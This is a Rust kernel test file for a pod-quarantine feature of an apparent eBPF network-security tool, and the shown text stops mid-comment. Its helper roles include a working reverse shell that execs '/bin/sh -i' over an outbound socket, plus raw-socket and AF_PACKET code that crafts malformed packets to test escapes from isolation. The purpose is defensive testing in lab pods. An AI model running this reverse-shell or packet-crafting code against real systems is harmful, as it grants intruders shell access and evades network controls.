//! Kernel tests of quarantine: the real cgroup_skb datapath on lab pods, driven by the responder.
//!
//! Root only; without root they print SKIP, and with PALISADE_REQUIRE_KERNEL=1 they fail.
//!
//! Pod-side programs (TCP echo server, a client holding one connection open, the "daemon" child
//! that is SIGKILLed) are this test binary re-executed with `PALISADE_QTEST_ROLE` set, running
//! only the `role_helper` test: a socket counts for the pod only when a process in the pod's
//! cgroup creates it, so these must be separate processes started through `Lab::exec`.

mod support;

use std::collections::BTreeSet;
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use palisade::inventory::{Inventory, Protocol};
use palisade::probes::loader::{self, LoadOptions};
use palisade::quarantine::datapath::{self, KernelQuarantineMap};
use palisade::segmentation::datapath::Datapath;
use palisade::quarantine::{Outcome, QuarantineService, ResponderConfig, ResponsePolicy, RuleMode, Finding};
use palisade::rules::{Action, RuleHit, Severity};
use support::{TestLab, require_kernel};

const ROLE_ENV: &str = "PALISADE_QTEST_ROLE";
const ARGS_ENV: &str = "PALISADE_QTEST_ARGS";
/// Lines the roles print for the parent start with this (the test harness prints its own).
const MARK: &str = "@@ ";

const PODS: &str = r#"
endpoints:
  - namespace: shop
    name: a
    ips: [198.18.7.1]
    cgroup: /palisade-test/{lab}/shop/a
  - namespace: shop
    name: b
    ips: [198.18.7.2]
    cgroup: /palisade-test/{lab}/shop/b
  - namespace: shop
    name: c
    ips: [198.18.7.3]
    cgroup: /palisade-test/{lab}/shop/c
  - namespace: kube-system
    name: dns
    ips: [198.18.7.4]
    cgroup: /palisade-test/{lab}/kube-system/dns
"#;
const ECHO_PORT: u16 = 7070;
const PROBE_PORT: u16 = 8080;

// ---- roles (child processes) ---------------------------------------------------------------

#[test]
fn role_helper() {
    let Ok(role) = std::env::var(ROLE_ENV) else { return };
    let args: Vec<String> = std::env::var(ARGS_ENV).unwrap_or_default().split_whitespace().map(String::from).collect();
    let arg = |i: usize| args.get(i).cloned().unwrap_or_else(|| panic!("role {role}: missing argument {i}"));
    match role.as_str() {
        "echo-server" => echo_server(arg(0).parse().expect("port")),
        "client" => client(arg(0).parse().expect("addr")),
        "sink-server" => sink_server(arg(0).parse().expect("port")),
        "reverse-shell" => reverse_shell(arg(0).parse().expect("addr")),
        "daemon" => daemon_child(Path::new(&arg(0)), Path::new(&arg(1)), Path::new(&arg(2)), &arg(3)),
        "escape-receiver" => escape::receiver(&arg(0), arg(1).parse().expect("port")),
        "escape-sender" => {
            escape::sender(arg(0).parse().expect("v4"), arg(1).parse().expect("v6"), arg(2).parse().expect("port"), &arg(3))
        }
        other => panic!("unknown role {other}"),
    }
    std::process::exit(0);
}

fn say(line: &str) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{MARK}{line}");
    let _ = out.flush();
}

fn echo_server(port: u16) {
    let listener = TcpListener::bind(("0.0.0.0", port)).expect("bind");
    say("listening");
    for stream in listener.incoming().flatten() {
        std::thread::spawn(move || {
            let mut writer = match stream.try_clone() {
                Ok(w) => w,
                Err(_) => return,
            };
            let mut reader = BufReader::new(stream);
            let mut line = String::new();
            while reader.read_line(&mut line).map(|n| n > 0).unwrap_or(false) {
                if writer.write_all(line.as_bytes()).is_err() {
                    return;
                }
                line.clear();
            }
        });
    }
}

/// Accepts connections and discards what they send (the attacker's end of a reverse shell).
fn sink_server(port: u16) {
    let listener = TcpListener::bind(("0.0.0.0", port)).expect("bind");
    say("listening");
    for stream in listener.incoming().flatten() {
        std::thread::spawn(move || {
            let mut stream = stream;
            let _ = std::io::copy(&mut stream, &mut std::io::sink());
        });
    }
}

/// The classic reverse shell: connect out, put the socket on fds 0-2, exec an interactive shell.
fn reverse_shell(addr: SocketAddr) {
    use std::os::fd::AsRawFd as _;
    use std::os::unix::process::CommandExt as _;
    let stream = TcpStream::connect_timeout(&addr, Duration::from_secs(2)).expect("connect to the attacker");
    let fd = stream.as_raw_fd();
    for target in 0..3 {
        // SAFETY: both descriptors are valid; replacing the standard streams is the point.
        unsafe { libc::dup2(fd, target) };
    }
    let err = Command::new("/bin/sh").arg("-i").exec();
    panic!("exec /bin/sh: {err}");
}

/// Holds one connection open; each stdin line is sent and must come back within a second.
fn client(addr: SocketAddr) {
    let stream = match TcpStream::connect_timeout(&addr, Duration::from_secs(2)) {
        Ok(s) => s,
        Err(e) => {
            say(&format!("connect-failed {e}"));
            return;
        }
    };
    say("connected");
    stream.set_read_timeout(Some(Duration::from_millis(1000))).expect("timeout");
    let mut writer = stream.try_clone().expect("clone");
    let mut reader = BufReader::new(stream);
    for line in std::io::stdin().lines() {
        let Ok(line) = line else { return };
        let mut echo = String::new();
        let result = writer
            .write_all(format!("{line}\n").as_bytes())
            .and_then(|()| reader.read_line(&mut echo))
            .map_err(|e| e.to_string())
            .and_then(|n| if n == 0 { Err("closed".into()) } else { Ok(()) });
        match result {
            Ok(()) if echo.trim() == line => say("ok"),
            Ok(()) => say(&format!("err bad echo {echo:?}")),
            Err(e) => say(&format!("err {e}")),
        }
    }
}

/// The daemon's loader with the datapath maps pinned under `dir` (reused when already there).
fn load_pinned(dir: &Path) -> aya::Ebpf {
    loader::load(&LoadOptions { pin_dir: Some(dir.to_path_buf()), ..LoadOptions::default() })
        .unwrap_or_else(|e| panic!("load the eBPF object, maps pinned under {}: {e}", dir.display()))
        .ebpf
}

/// A stand-in for the daemon: pins the datapath, attaches it to every pod, quarantines `pod`,
/// then waits to be killed.
fn daemon_child(pin_dir: &Path, state_dir: &Path, inventory_path: &Path, pod: &str) {
    let inventory = Inventory::load(inventory_path).expect("inventory");
    let mut ebpf = load_pinned(pin_dir);
    let mount = palisade::lab::cgroup2_mount().expect("cgroup2");
    let mut segmentation = Datapath::adopt(&mut ebpf).expect("adopt the pinned maps");
    for ep in &inventory.endpoints {
        let dir = mount.join(ep.cgroup.as_deref().expect("cgroup"));
        segmentation.attach_pinned(&mut ebpf, &dir, &pin_dir.join("links")).expect("attach");
    }
    let map = KernelQuarantineMap::from_ebpf(&ebpf).expect("quarantine map");
    let config = ResponderConfig { state_dir: state_dir.into(), cgroup_root: mount, policy: ResponsePolicy::default() };
    let (service, _) = QuarantineService::start(config, Box::new(map), &inventory).expect("responder");
    let (namespace, name) = pod.split_once('/').expect("pod");
    let decision = service.respond(&finding(namespace, name, "reverse_shell", "alert-child-1"));
    say(&format!("decision {}", decision.outcome.as_str()));
    loop {
        std::thread::sleep(Duration::from_secs(60));
    }
}

/// The escape attempts of a quarantined pod with CAP_NET_RAW and what another pod's wire sees.
///
/// Every attempt carries a tag (`UDP-3`, `RAW-3`, ... for round 3) in its payload; the receiver
/// captures every frame arriving on its `eth0` with an AF_PACKET socket (the most a receiver can
/// see: below the IP stack, so even packets the stack would discard count) and reports the tags.
mod escape {
    use super::say;
    use std::collections::BTreeSet;
    use std::net::{Ipv4Addr, Ipv6Addr};
    use std::sync::{Arc, Mutex};

    pub const TAG_PREFIX: &[u8] = b"PALISADE-";

    fn check(rc: libc::c_int, what: &str) -> libc::c_int {
        assert!(rc >= 0, "{what}: {}", std::io::Error::last_os_error());
        rc
    }

    fn ifindex(name: &str) -> u32 {
        let c = std::ffi::CString::new(name).expect("name");
        // SAFETY: a valid NUL-terminated string.
        let index = unsafe { libc::if_nametoindex(c.as_ptr()) };
        assert!(index != 0, "if_nametoindex {name}: {}", std::io::Error::last_os_error());
        index
    }

    /// Captures frames arriving on `interface` (not its own outgoing ones) and, when `port` is
    /// not 0, takes UDP datagrams on `port`; on each stdin line `report`, prints `seen TAG,TAG`
    /// (or `seen -`) for what arrived since the last report.
    pub fn receiver(interface: &str, port: u16) {
        // SAFETY: plain socket syscalls on descriptors this function owns.
        let fd = check(unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, (libc::ETH_P_ALL as u16).to_be() as i32) }, "AF_PACKET socket");
        let mut sll: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        sll.sll_family = libc::AF_PACKET as u16;
        sll.sll_protocol = (libc::ETH_P_ALL as u16).to_be();
        sll.sll_ifindex = ifindex(interface) as i32;
        check(
            unsafe { libc::bind(fd, (&sll as *const libc::sockaddr_ll).cast(), std::mem::size_of::<libc::sockaddr_ll>() as u32) },
            "bind AF_PACKET",
        );
        // Bound so the stack has a taker for the datagrams (no ICMP errors echoing tags back).
        let udp = (port != 0).then(|| std::net::UdpSocket::bind(("0.0.0.0", port)).expect("bind udp"));
        let seen = Arc::new(Mutex::new(BTreeSet::<String>::new()));
        {
            let seen = seen.clone();
            std::thread::spawn(move || {
                let mut buf = vec![0u8; 65536];
                loop {
                    let mut from: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
                    let mut len = std::mem::size_of::<libc::sockaddr_ll>() as u32;
                    // SAFETY: buffer and address are valid for the given lengths.
                    let n = unsafe {
                        libc::recvfrom(fd, buf.as_mut_ptr().cast(), buf.len(), 0, (&mut from as *mut libc::sockaddr_ll).cast(), &mut len)
                    };
                    if n < 0 {
                        continue;
                    }
                    if from.sll_pkttype == libc::PACKET_OUTGOING {
                        continue;
                    }
                    let frame = &buf[..n as usize];
                    let mut seen = seen.lock().expect("seen");
                    for tag in tags_in(frame) {
                        seen.insert(tag);
                    }
                }
            });
        }
        if let Some(udp) = udp {
            std::thread::spawn(move || {
                let mut buf = [0u8; 2048];
                while udp.recv(&mut buf).is_ok() {}
            });
        }
        say("listening");
        for line in std::io::stdin().lines() {
            let Ok(line) = line else { return };
            if line.trim() == "report" {
                let mut seen = seen.lock().expect("seen");
                let list: Vec<String> = std::mem::take(&mut *seen).into_iter().collect();
                say(&format!("seen {}", if list.is_empty() { "-".to_string() } else { list.join(",") }));
            }
        }
    }

    /// `PALISADE-KIND-ROUND` occurrences in a frame.
    fn tags_in(frame: &[u8]) -> Vec<String> {
        let mut tags = Vec::new();
        let mut i = 0;
        while i + TAG_PREFIX.len() <= frame.len() {
            if &frame[i..i + TAG_PREFIX.len()] == TAG_PREFIX {
                let rest = &frame[i + TAG_PREFIX.len()..];
                let end = rest.iter().position(|b| !(b.is_ascii_alphanumeric() || *b == b'-')).unwrap_or(rest.len());
                if let Ok(tag) = std::str::from_utf8(&rest[..end]) {
                    tags.push(tag.to_string());
                }
                i += TAG_PREFIX.len();
            } else {
                i += 1;
            }
        }
        tags
    }

    fn ipv4_header(version_ihl: u8, protocol: u8, src: Ipv4Addr, dst: Ipv4Addr, total: usize) -> Vec<u8> {
        let mut h = vec![0u8; 20];
        h[0] = version_ihl;
        h[2..4].copy_from_slice(&(total as u16).to_be_bytes());
        h[8] = 64;
        h[9] = protocol;
        h[12..16].copy_from_slice(&src.octets());
        h[16..20].copy_from_slice(&dst.octets());
        h
    }

    /// Opens every socket first (as an intruder would before the quarantine lands), prints
    /// `ready`, then for each stdin line `send ROUND` makes every attempt once and prints
    /// `sent KIND=ok|errno ...`.
    pub fn sender(peer_v4: Ipv4Addr, peer_v6: Ipv6Addr, port: u16, peer_mac: &str) {
        let peer_mac: Vec<u8> = peer_mac.split(':').map(|h| u8::from_str_radix(h, 16).expect("mac")).collect();
        let udp = std::net::UdpSocket::bind(("0.0.0.0", 0)).expect("udp socket");
        // SAFETY: plain socket syscalls on descriptors this function owns.
        let raw4 = check(unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) }, "raw IPv4 socket");
        let raw6 = check(unsafe { libc::socket(libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_ICMPV6) }, "raw ICMPv6 socket");
        let packet = check(unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0) }, "AF_PACKET socket");
        let hops: libc::c_int = 255;
        let eth0 = ifindex("eth0");
        let mut to_peer: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        to_peer.sll_family = libc::AF_PACKET as u16;
        to_peer.sll_ifindex = eth0 as i32;
        to_peer.sll_halen = 6;
        to_peer.sll_addr[..6].copy_from_slice(&peer_mac);
        unsafe {
            check(libc::setsockopt(raw6, libc::IPPROTO_IPV6, libc::IPV6_MULTICAST_HOPS, (&hops as *const libc::c_int).cast(), 4), "hops");
            check(libc::setsockopt(raw6, libc::IPPROTO_IPV6, libc::IPV6_MULTICAST_IF, (&eth0 as *const u32).cast(), 4), "mcast if");
        }
        let own_v4 = Ipv4Addr::UNSPECIFIED;
        let mut dst4: libc::sockaddr_in = unsafe { std::mem::zeroed() };
        dst4.sin_family = libc::AF_INET as u16;
        dst4.sin_addr.s_addr = u32::from_ne_bytes(peer_v4.octets());
        say("ready");
        for line in std::io::stdin().lines() {
            let Ok(line) = line else { return };
            let result = |rc: isize| if rc >= 0 { "ok".to_string() } else { format!("errno{}", std::io::Error::last_os_error().raw_os_error().unwrap_or(0)) };
            if line.trim() == "open" {
                // New packet and raw sockets (after the quarantine: refused at creation).
                let mut results = Vec::new();
                for (kind, (family, ty, proto)) in [
                    ("PACKET", (libc::AF_PACKET, libc::SOCK_RAW, 0)),
                    ("DGRAMPACKET", (libc::AF_PACKET, libc::SOCK_DGRAM, 0)),
                    ("RAW4", (libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW)),
                    ("RAW6", (libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_ICMPV6)),
                    ("UDP", (libc::AF_INET, libc::SOCK_DGRAM, 0)),
                ] {
                    // SAFETY: socket(2) and close(2) on the descriptor it returns.
                    let fd = unsafe { libc::socket(family, ty, proto) };
                    results.push(format!("{kind}={}", result(fd as isize)));
                    if fd >= 0 {
                        unsafe { libc::close(fd) };
                    }
                }
                say(&format!("opened {}", results.join(" ")));
                continue;
            }
            let Some(round) = line.strip_prefix("send ") else { continue };
            let mut results = Vec::new();
            // 1. a plain UDP datagram
            let r = udp.send_to(format!("PALISADE-UDP-{round}").as_bytes(), (peer_v4, port));
            results.push(match r {
                Ok(_) => "UDP=ok".to_string(),
                Err(e) => format!("UDP=errno{}", e.raw_os_error().unwrap_or(0)),
            });
            // 2. a hand-built IPv4/UDP packet on a raw socket
            let payload = format!("PALISADE-RAW-{round}");
            let total = 20 + 8 + payload.len();
            let mut pkt = ipv4_header(0x45, 17, own_v4, peer_v4, total);
            pkt.extend_from_slice(&40001u16.to_be_bytes());
            pkt.extend_from_slice(&port.to_be_bytes());
            pkt.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
            pkt.extend_from_slice(&[0, 0]);
            pkt.extend_from_slice(payload.as_bytes());
            results.push(format!("RAW={}", result(send_raw(raw4, &pkt, &dst4))));
            // 3. a malformed IPv4 header: IHL 3 (< 5); kernels that validate IP_HDRINCL headers
            //    refuse it here (EINVAL), the AF_PACKET attempt carries it then
            let payload = format!("PALISADE-IHL-{round}");
            let mut pkt = ipv4_header(0x43, 17, own_v4, peer_v4, 20 + payload.len());
            pkt.extend_from_slice(payload.as_bytes());
            results.push(format!("IHL={}", result(send_raw(raw4, &pkt, &dst4))));
            // 4. an IP version that is neither 4 nor 6
            let payload = format!("PALISADE-VER-{round}");
            let mut pkt = ipv4_header(0x75, 17, own_v4, peer_v4, 20 + payload.len());
            pkt.extend_from_slice(payload.as_bytes());
            results.push(format!("VER={}", result(send_raw(raw4, &pkt, &dst4))));
            // 5. an IPv6 neighbour solicitation for the peer, to its solicited-node group, the
            //    tag in a trailing (unknown, so ignored) option
            let o = peer_v6.octets();
            let group = Ipv6Addr::from([0xff, 0x02, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0xff, o[13], o[14], o[15]]);
            let tag = format!("PALISADE-NS-{round}");
            let mut ns = vec![135u8, 0, 0, 0, 0, 0, 0, 0];
            ns.extend_from_slice(&o);
            let opt_len = (2 + tag.len()).div_ceil(8) * 8;
            ns.push(200);
            ns.push((opt_len / 8) as u8);
            ns.extend_from_slice(tag.as_bytes());
            ns.resize(24 + opt_len, 0);
            let mut dst6: libc::sockaddr_in6 = unsafe { std::mem::zeroed() };
            dst6.sin6_family = libc::AF_INET6 as u16;
            dst6.sin6_addr.s6_addr = group.octets();
            dst6.sin6_scope_id = eth0;
            // SAFETY: valid buffer and address for the given lengths.
            let rc = unsafe {
                libc::sendto(raw6, ns.as_ptr().cast(), ns.len(), 0, (&dst6 as *const libc::sockaddr_in6).cast(), std::mem::size_of::<libc::sockaddr_in6>() as u32)
            };
            results.push(format!("NS={}", result(rc)));
            // 6. Ethernet frames on the packet socket opened before the quarantine, to b's MAC:
            //    IPv4/UDP with a valid header, and one with IHL 3
            for (kind, version_ihl) in [("PKT", 0x45u8), ("PKTIHL", 0x43u8)] {
                let payload = format!("PALISADE-{kind}-{round}");
                let mut frame = peer_mac.clone();
                frame.extend_from_slice(&[0x02, 0x50, 0x4c, 0x41, 0x42, 0x01, 0x08, 0x00]);
                let mut ip = ipv4_header(version_ihl, 17, Ipv4Addr::new(198, 18, 9, 1), peer_v4, 20 + 8 + payload.len());
                let sum = checksum(&ip);
                ip[10..12].copy_from_slice(&sum.to_be_bytes());
                frame.extend_from_slice(&ip);
                frame.extend_from_slice(&40002u16.to_be_bytes());
                frame.extend_from_slice(&port.to_be_bytes());
                frame.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
                frame.extend_from_slice(&[0, 0]);
                frame.extend_from_slice(payload.as_bytes());
                // SAFETY: valid buffer and address for the given lengths.
                let rc = unsafe {
                    libc::sendto(packet, frame.as_ptr().cast(), frame.len(), 0, (&to_peer as *const libc::sockaddr_ll).cast(), std::mem::size_of::<libc::sockaddr_ll>() as u32)
                };
                results.push(format!("{kind}={}", result(rc)));
            }
            say(&format!("sent {}", results.join(" ")));
        }
    }

    /// The IPv4 header checksum.
    fn checksum(header: &[u8]) -> u16 {
        let mut sum: u32 = header.chunks(2).map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]))).sum();
        while sum > 0xffff {
            sum = (sum & 0xffff) + (sum >> 16);
        }
        !(sum as u16)
    }

    fn send_raw(fd: libc::c_int, pkt: &[u8], dst: &libc::sockaddr_in) -> isize {
        // SAFETY: valid buffer and address for the given lengths.
        unsafe { libc::sendto(fd, pkt.as_ptr().cast(), pkt.len(), 0, (dst as *const libc::sockaddr_in).cast(), std::mem::size_of::<libc::sockaddr_in>() as u32) }
    }
}

// ---- parent-side helpers -------------------------------------------------------------------

fn role_command(role: &str, args: &str, base: Command) -> Command {
    let mut cmd = base;
    cmd.args(["--exact", "role_helper", "--nocapture", "--test-threads=1", "-q"])
        .env(ROLE_ENV, role)
        .env(ARGS_ENV, args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit());
    cmd
}

/// A running role and its marked output lines.
struct Role {
    child: Child,
    stdin: Option<ChildStdin>,
    lines: mpsc::Receiver<String>,
}

impl Role {
    fn spawn(mut cmd: Command) -> Role {
        let mut child = cmd.spawn().expect("spawn role");
        let stdout = child.stdout.take().expect("stdout");
        let stdin = child.stdin.take();
        let (tx, lines) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                if let Some(marked) = line.strip_prefix(MARK) {
                    if tx.send(marked.to_string()).is_err() {
                        return;
                    }
                }
            }
        });
        Role { child, stdin, lines }
    }

    fn in_pod(lab: &TestLab, pod: &str, role: &str, args: &str) -> Role {
        let exe = std::env::current_exe().expect("current exe");
        Role::spawn(role_command(role, args, lab.exec(pod, exe).expect("exec in pod")))
    }

    fn next(&self, within: Duration) -> String {
        self.lines.recv_timeout(within).unwrap_or_else(|e| panic!("role said nothing within {within:?}: {e}"))
    }

    fn send(&mut self, line: &str) -> String {
        let stdin = self.stdin.as_mut().expect("stdin");
        writeln!(stdin, "{line}").expect("write to role");
        stdin.flush().expect("flush");
        self.next(Duration::from_secs(5))
    }
}

impl Drop for Role {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// bpffs directory for one test's pins, removed on drop (links unpinned first: the programs
/// detach once the last reference goes).
struct Pins {
    dir: PathBuf,
}

impl Pins {
    fn new(lab: &str) -> Pins {
        let dir = Path::new(loader::BPFFS_MOUNT).join(format!("palisade-test-{lab}"));
        loader::ensure_bpffs(&dir).expect("bpffs");
        let _ = std::fs::remove_dir_all(&dir);
        Pins { dir }
    }

    fn links(&self) -> PathBuf {
        self.dir.join("links")
    }
}

impl Drop for Pins {
    fn drop(&mut self) {
        if let Ok(entries) = std::fs::read_dir(self.links()) {
            for e in entries.flatten() {
                let _ = std::fs::remove_file(e.path());
            }
        }
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

fn finding(namespace: &str, name: &str, rule: &str, alert_id: &str) -> Finding {
    Finding {
        hit: RuleHit {
            rule_id: rule.into(),
            title: "Reverse shell".into(),
            severity: Severity::Critical,
            message: "a shell with its standard streams on a network socket".into(),
            mitre: vec!["T1059.004".into()],
            action: Action::Quarantine,
        },
        namespace: namespace.into(),
        name: name.into(),
        alert_id: alert_id.into(),
    }
}

fn temp_state_dir(lab: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("palisade-qstate-{lab}"));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

/// Loads the datapath pinned under `pins`, attaches it to every pod, starts a responder.
fn enforce(lab: &TestLab, pins: &Pins, state_dir: &Path, policy: ResponsePolicy) -> (aya::Ebpf, QuarantineService) {
    let mut ebpf = load_pinned(&pins.dir);
    let mut segmentation = Datapath::adopt(&mut ebpf).expect("adopt the pinned maps");
    for pod in lab.pods() {
        let dir = lab.pod_cgroup_dir(&pod.key).expect("cgroup dir");
        segmentation.attach_pinned(&mut ebpf, &dir, &pins.links()).unwrap_or_else(|e| panic!("attach {}: {e}", pod.key));
        // The escape-path hooks, as the daemon attaches them: socket creation on the cgroup, the
        // TC backstop on the pod's host-side veth (found from the pod's network namespace).
        let packet_sockets = datapath::attach_socket_hook(&mut ebpf, &dir, &pins.links())
            .unwrap_or_else(|e| panic!("socket hook {}: {e}", pod.key));
        if let Err(why) = packet_sockets {
            eprintln!("note: packet sockets are not refused at creation here ({why}); the TC backstop drops their frames");
        }
        let netns = lab.pod_netns_path(&pod.key).expect("netns");
        let host = datapath::host_interface(&netns).unwrap_or_else(|e| panic!("host interface of {}: {e}", pod.key));
        assert_eq!(host.name, pod.host_veth, "the host side of {} found from its namespace", pod.key);
        let id = palisade::lab::cgroup_id(&dir).expect("cgroup id");
        datapath::attach_backstop(&mut ebpf, &host, id, &pins.links()).unwrap_or_else(|e| panic!("backstop {}: {e}", pod.key));
    }
    let map = KernelQuarantineMap::from_ebpf(&ebpf).expect("quarantine map");
    let config = ResponderConfig {
        state_dir: state_dir.to_path_buf(),
        cgroup_root: palisade::lab::cgroup2_mount().expect("cgroup2"),
        policy,
    };
    let (service, _) = QuarantineService::start(config, Box::new(map), &lab.inventory).expect("responder");
    (ebpf, service)
}

fn probe(lab: &TestLab) -> palisade::lab::ProbeMatrix {
    lab.probe(PROBE_PORT, Protocol::Tcp).unwrap_or_else(|e| panic!("probe: {e}"))
}

/// Asserts every ordered pair among `pods` (self excluded) is reachable or not as `want` says.
fn assert_reach(matrix: &palisade::lab::ProbeMatrix, want: impl Fn(&str, &str) -> bool) {
    let mut wrong = Vec::new();
    for r in &matrix.results {
        if r.from != r.to && r.allowed != want(&r.from, &r.to) {
            wrong.push(format!("{} -> {}: allowed={} ({:?})", r.from, r.to, r.allowed, r.reason));
        }
    }
    assert!(wrong.is_empty(), "unexpected reachability:\n{}\n{}", wrong.join("\n"), matrix.to_table());
}

fn involves(pod: &str) -> impl Fn(&str, &str) -> bool + '_ {
    move |from, to| from != pod && to != pod
}

// ---- tests ---------------------------------------------------------------------------------

/// (a) Two pods with an open, allowed TCP connection; a quarantine finding about one isolates
/// it: the open connection stops passing data, new connections both ways fail, other pods are
/// untouched; release restores it.
#[test]
fn quarantine_isolates_one_pod_end_to_end() {
    if !require_kernel("quarantine_isolates_one_pod_end_to_end") {
        return;
    }
    let lab = TestLab::up("qe2e", PODS);
    let pins = Pins::new(&lab.name);
    let state_dir = temp_state_dir(&lab.name);
    let (_ebpf, service) = enforce(&lab, &pins, &state_dir, ResponsePolicy::default());

    let server = Role::in_pod(&lab, "shop/b", "echo-server", &ECHO_PORT.to_string());
    assert_eq!(server.next(Duration::from_secs(10)), "listening");
    let mut client = Role::in_pod(&lab, "shop/a", "client", &format!("198.18.7.2:{ECHO_PORT}"));
    assert_eq!(client.next(Duration::from_secs(10)), "connected");
    assert_eq!(client.send("before"), "ok", "the open connection must work before quarantine");
    assert_reach(&probe(&lab), |_, _| true);

    let decision = service.respond(&finding("shop", "a", "reverse_shell", "alert-e2e-1"));
    assert_eq!(decision.outcome, Outcome::Quarantined, "{decision:?}");

    let reply = client.send("after");
    assert!(reply.starts_with("err"), "the open connection still passes data: {reply}");
    assert_reach(&probe(&lab), involves("shop/a"));

    let listed = service.list();
    assert_eq!(listed.len(), 1);
    assert_eq!((listed[0].pod.as_str(), listed[0].rule_id.as_str(), listed[0].alert_id.as_str()), ("shop/a", "reverse_shell", "alert-e2e-1"));

    let audit = service.release("shop/a", "test over", "quarantine_isolates_one_pod_end_to_end").expect("release");
    assert_eq!(audit.alert_id, "alert-e2e-1");
    assert_reach(&probe(&lab), |_, _| true);
    let _ = std::fs::remove_dir_all(&state_dir);
}

/// (b) The "daemon" is SIGKILLed while a pod is quarantined: the pod stays cut off while no
/// daemon runs; a restart adopts the pinned map and the state file and lists the pod; release
/// restores connectivity.
#[test]
fn quarantine_survives_sigkill_and_is_adopted_on_restart() {
    if !require_kernel("quarantine_survives_sigkill_and_is_adopted_on_restart") {
        return;
    }
    let lab = TestLab::up("qkill", PODS);
    let pins = Pins::new(&lab.name);
    let state_dir = temp_state_dir(&lab.name);
    let inventory_path = state_dir.with_extension("inventory.yaml");
    std::fs::write(&inventory_path, PODS.replace("{lab}", &lab.name)).expect("write inventory");

    let server = Role::in_pod(&lab, "shop/b", "echo-server", &ECHO_PORT.to_string());
    assert_eq!(server.next(Duration::from_secs(10)), "listening");
    let mut client = Role::in_pod(&lab, "shop/a", "client", &format!("198.18.7.2:{ECHO_PORT}"));
    assert_eq!(client.next(Duration::from_secs(10)), "connected");
    assert_eq!(client.send("before"), "ok");

    let exe = std::env::current_exe().expect("exe");
    let args = format!("{} {} {} shop/a", pins.dir.display(), state_dir.display(), inventory_path.display());
    let mut daemon = Role::spawn(role_command("daemon", &args, Command::new(exe)));
    assert_eq!(daemon.next(Duration::from_secs(30)), "decision quarantined");
    assert!(client.send("while the daemon runs").starts_with("err"));

    // SIGKILL: no chance to clean up.
    daemon.child.kill().expect("SIGKILL");
    daemon.child.wait().expect("reap");
    let dead_since = Instant::now();
    let mut rounds = 0;
    while dead_since.elapsed() < Duration::from_secs(2) || rounds < 2 {
        assert!(client.send("daemon dead").starts_with("err"), "data passed while the daemon was dead");
        assert_reach(&probe(&lab), involves("shop/a"));
        rounds += 1;
    }

    // Restart: adopt before anything else; the pod is still quarantined and listed.
    let (_ebpf, service) = enforce(&lab, &pins, &state_dir, ResponsePolicy::default());
    let listed = service.list();
    assert_eq!(listed.iter().map(|r| r.pod.as_str()).collect::<Vec<_>>(), ["shop/a"]);
    assert_eq!(listed[0].alert_id, "alert-child-1");
    assert_reach(&probe(&lab), involves("shop/a"));

    service.release("shop/a", "incident closed", "test").expect("release");
    assert_reach(&probe(&lab), |_, _| true);
    let mut fresh = Role::in_pod(&lab, "shop/a", "client", &format!("198.18.7.2:{ECHO_PORT}"));
    assert_eq!(fresh.next(Duration::from_secs(10)), "connected");
    assert_eq!(fresh.send("after release"), "ok");
    let _ = std::fs::remove_dir_all(&state_dir);
    let _ = std::fs::remove_file(&inventory_path);
}

/// (c) Dry run reports would_quarantine and leaves the datapath alone; a rule set to quarantine
/// still enforces, and a hot reload to alert-only turns it off again.
#[test]
fn quarantine_dry_run_changes_nothing_in_the_kernel() {
    if !require_kernel("quarantine_dry_run_changes_nothing_in_the_kernel") {
        return;
    }
    let lab = TestLab::up("qdry", PODS);
    let pins = Pins::new(&lab.name);
    let state_dir = temp_state_dir(&lab.name);
    let mut policy = ResponsePolicy { dry_run: true, ..ResponsePolicy::default() };
    policy.rules.insert("container_escape".into(), RuleMode::Quarantine);
    let (_ebpf, service) = enforce(&lab, &pins, &state_dir, policy.clone());

    let d = service.respond(&finding("shop", "a", "reverse_shell", "alert-dry-1"));
    assert_eq!(d.outcome, Outcome::WouldQuarantine, "{d:?}");
    assert!(service.list().is_empty());
    assert_reach(&probe(&lab), |_, _| true);
    // What dry run held back is listed (issue 15), not enforced.
    let held_back: Vec<String> = service.dry_run_list().into_iter().map(|r| r.pod).collect();
    assert_eq!(held_back, ["shop/a"]);

    let d = service.respond(&finding("shop", "b", "container_escape", "alert-dry-2"));
    assert_eq!(d.outcome, Outcome::Quarantined, "{d:?}");
    assert_reach(&probe(&lab), involves("shop/b"));
    service.release("shop/b", "done", "test").expect("release");

    policy.rules.insert("container_escape".into(), RuleMode::AlertOnly);
    policy.dry_run = false;
    service.set_policy(policy).expect("hot reload");
    let d = service.respond(&finding("shop", "b", "container_escape", "alert-dry-3"));
    assert_eq!(d.outcome, Outcome::WouldQuarantine, "{d:?}");
    assert_reach(&probe(&lab), |_, _| true);
    // Dry run off for the node: shop/a's reverse_shell record is gone (its rule is enforced
    // now); shop/b's rule is alert-only, so it is held back and listed.
    let held_back: Vec<String> = service.dry_run_list().into_iter().map(|r| r.pod).collect();
    assert_eq!(held_back, ["shop/b"]);
    let _ = std::fs::remove_dir_all(&state_dir);
}

/// (d) Guardrails: a protected namespace is never cut off; past the rate limit a quarantine is
/// queued (the pod keeps connectivity meanwhile, listed as pending) and applied in the kernel
